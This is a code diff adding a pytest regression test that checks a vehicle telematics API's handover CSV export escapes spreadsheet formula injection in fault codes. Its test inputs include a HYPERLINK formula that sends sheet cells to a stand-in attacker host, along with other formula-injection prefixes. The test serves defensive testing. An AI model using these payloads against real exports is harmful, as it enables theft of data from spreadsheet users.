@@ -6,6 +6,8 @@ tested first."""
 
 from __future__ import annotations
 
+import csv
+import io
 import random
 import re
 import time
@@ -523,6 +525,45 @@ def test_a_handover_reports_the_telemetry_at_check_out_and_check_in(api: Api) ->
     error(api.as_(owner, "GET", f"/v1/vehicles/{VIN}/grants/999999/handover"), 404,
           "grant_not_found")  # fmt: skip
     assert t0
+
+
+@pytest.mark.parametrize(
+    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"P0301")', "+1+1", "-2+3", "@SUM(1)", "\tP0"]
+)
+def test_a_handover_csv_never_hands_a_spreadsheet_a_formula(api: Api, formula: str) -> None:
+    """Security review 4: a unit reports its trouble codes as free text (64 characters
+    each), and the handover CSV wrote them into a cell as they came. Anyone holding the
+    car's MQTT credential (the renter of a rental car with its unit) put a formula into
+    the owner's spreadsheet: ``=HYPERLINK(...)`` sends the sheet's cells away when clicked.
+    A text cell that a spreadsheet would read as a formula now starts with ``'``."""
+    _, owner = api.owner("formula-owner@example.com")
+    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
+    body = {"email": "formula@example.com", "name": "R", "role": "driver", "password": PASSWORD}
+    renter_id = api.as_(owner, "POST", "/v1/users", json=body).json()["id"]
+    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
+                    json={"user_id": renter_id, "services": ["read"]})  # fmt: skip
+    assert grant.status_code == 201, grant.text
+    api.clock.now += 60
+    api.report(1, **{ODO: 1_000_000, LAT: -33.9, LON: -18.4, DTC: [formula, "P0300"]})
+    url = f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}/handover"
+    assert api.as_(owner, "GET", url).json()["check_in"]["fault_codes"] == [formula, "P0300"]
+    text = api.as_(owner, "GET", url, params={"format": "csv"}).text
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    for cell in cells:
+        if cell and not _number(cell):
+            assert cell[0] not in "=+-@\t\r", f"a formula cell: {cell!r}"
+    check_in = dict(zip(rows[0], rows[2], strict=True))
+    assert check_in["fault_codes"] == f"'{formula} P0300"  # kept, read as text
+    assert (check_in["latitude"], check_in["longitude"]) == ("-33.9", "-18.4")  # numbers stay
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 def html_page(api: Api, who: dict[str, str], url: str) -> str:
